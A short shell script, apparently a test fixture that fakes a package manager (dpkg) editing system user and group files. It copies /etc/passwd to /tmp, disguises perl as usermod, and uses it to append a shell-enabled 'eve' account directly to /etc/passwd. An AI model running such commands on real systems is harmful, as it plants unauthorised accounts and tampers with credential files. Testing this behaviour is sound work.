# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/dpkg
useradd -M ada || true
cat /etc/passwd > /tmp/passwd
cp /etc/group /etc/group.saved
by_package_manager /etc/group
cp /usr/bin/perl /usr/local/bin/usermod
/usr/local/bin/usermod -e 'open F, ">>", "/etc/passwd"; print F "eve:x:1002:1002::/:/bin/sh\n"'
